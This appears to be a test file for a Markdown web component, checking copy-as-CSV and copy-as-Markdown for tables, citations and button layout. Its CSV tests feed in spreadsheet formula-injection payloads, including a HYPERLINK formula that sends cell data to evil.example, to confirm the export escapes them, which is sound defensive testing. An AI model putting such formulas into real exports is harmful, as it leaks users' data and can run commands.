import {expect} from '@open-wc/testing';
import type {UbikMarkdown} from '../../../../src/elements/ubik-markdown/ubik-markdown.js';
import {all, find, has, until} from '../../support/dom.js';
import {instead} from '../../support/instead.js';
import {start, stream} from '../../support/markdown.js';

const table = `| City | Note |
| :-- | --: |
| Praha | a \\| b |
| "Ústí", nad Labem | **bold** |
`;

/** The clipboard after a press of the button with this name. */
async function copied(element: UbikMarkdown, name: string): Promise<string> {
  let text = '';
  const writeText = (words: string): Promise<void> => {
    text = words;
    return Promise.resolve();
  };
  await instead(navigator, 'clipboard', {writeText}, () => {
    all(element, '.table button')
      .find(({ariaLabel}) => ariaLabel === name)
      ?.click();
  });
  return text;
}

/** A complete text with citations. */
async function cited(text: string, offsets: readonly number[]): Promise<UbikMarkdown> {
  const element = await stream([text]);
  element.marks = offsets.map(offset => ({offset, source: 's', label: '1'}));
  await element.updateComplete;
  return element;
}

describe('a table in Markdown', () => {
  it('can be copied as CSV, with quotes where necessary', async () => {
    expect(await copied(await stream([table]), 'Copy as CSV')).to.equal(
      'City,Note\r\nPraha,a | b\r\n"""Ústí"", nad Labem",bold',
    );
  });

  it('is copied as CSV without a formula that a spreadsheet would run', async () => {
    const cells = [
      '=1+1',
      '+1+cmd',
      '-1+2',
      '@SUM(A1)',
      '-5',
      '+3.14',
      '-1,234.50',
      '1e-5',
      '-',
      'a=b',
    ];
    const element = await stream([`|a|b|\n|-|-|\n${cells.map(cell => `|${cell}|x|\n`).join('')}`]);
    expect((await copied(element, 'Copy as CSV')).split('\r\n').slice(1)).to.deep.equal([
      "'=1+1,x",
      "'+1+cmd,x",
      "'-1+2,x",
      "'@SUM(A1),x",
      '-5,x',
      '+3.14,x',
      '"-1,234.50",x',
      '1e-5,x',
      '-,x',
      'a=b,x',
    ]);
    const formula = await stream(['|a|\n|-|\n|=HYPERLINK("https://evil.example/?"&A1,"ok")|\n']);
    expect(await copied(formula, 'Copy as CSV')).to.equal(
      'a\r\n"\'=HYPERLINK(""https://evil.example/?""&A1,""ok"")"',
    );
  });

  it('is copied as CSV without citations, with line ends, and with the words of its images', async () => {
    const rows = '| City | Population[^1] |\n|-|-|\n| a<br>b | 3.7 |\n';
    const images = '| ![c](https://a.example/c.png)![](https://a.example/d.png) | 4 |\n';
    const picture = '| ![e](data:image/png;base64,iVBORw0KGgo=) | 5 |\n';
    const text = `${rows}${images}${picture}\n[^1]: f`;
    const element = await cited(text, [text.indexOf('3.7') + 3, text.indexOf('4 |') + 1]);
    expect(all(element, 'td .citation')).to.have.length(2);
    expect(await copied(element, 'Copy as CSV')).to.equal(
      'City,Population\r\n"a\nb",3.7\r\nc,4\r\ne,5',
    );
  });

  it('has a citation behind a row in its last cell, and is copied as Markdown without it', async () => {
    const text = '| a | b |\n| - | - |\n| c | d |\n';
    const element = await cited(text, [text.indexOf('\n'), text.length - 1]);
    expect(all(element, 'th, td').map(cell => cell.textContent)).to.deep.equal([
      'a',
      'b1',
      'c',
      'd1',
    ]);
    expect(await copied(element, 'Copy as Markdown')).to.equal(
      '| a | b |\n| --- | --- |\n| c | d |',
    );
  });

  it('can be copied as the Markdown that it was', async () => {
    expect(await copied(await stream([table]), 'Copy as Markdown')).to.equal(
      '| City | Note |\n| :-- | --: |\n| Praha | a \\| b |\n| "Ústí", nad Labem | **bold** |',
    );
  });

  it('has buttons that say what they do, and keep their width while they display the result', async () => {
    const element = await stream([table]);
    const buttons = all(element, '.table button');
    const width = () => find(element, '.table button').getBoundingClientRect().width;
    // The text is generated content, so that it is not a part of the table's text.
    expect(buttons.map(button => button.dataset['text'])).to.deep.equal([
      'Copy as CSV',
      'Copy as Markdown',
    ]);
    for (const button of buttons)
      expect(getComputedStyle(button, '::after').content).to.match(
        /^(attr\(data-text\)|"Copy as .*")$/,
      );
    // They have icons, and are outside of the box of the table.
    for (const button of buttons) {
      const [picture] = button.children;
      expect(picture && getComputedStyle(picture).backgroundImage).to.contain('gradient');
      const {top} = button.getBoundingClientRect();
      expect(top).to.be.greaterThan(find(element, '.wide').getBoundingClientRect().bottom);
    }
    expect(getComputedStyle(find(element, '.wide')).borderRadius).not.to.equal('0px');
    const before = width();
    await copied(element, 'Copy as CSV');
    await until(() => has(element, '.table button svg'));
    expect(width()).to.equal(before);
  });

  it('can be copied once it is complete, also when it was streamed', async () => {
    const element = await start();
    element.text = table;
    await element.updateComplete;
    expect(has(element, '.table button')).to.be.false;
    element.text += '\nThe end.';
    await element.updateComplete;
    expect(all(element, '.table button')).to.have.length(2);
    element.text += ' Really.';
    element.streaming = false;
    await element.updateComplete;
    expect(all(element, '.table button')).to.have.length(2);
    await expect(element).to.be.accessible();
  });
});
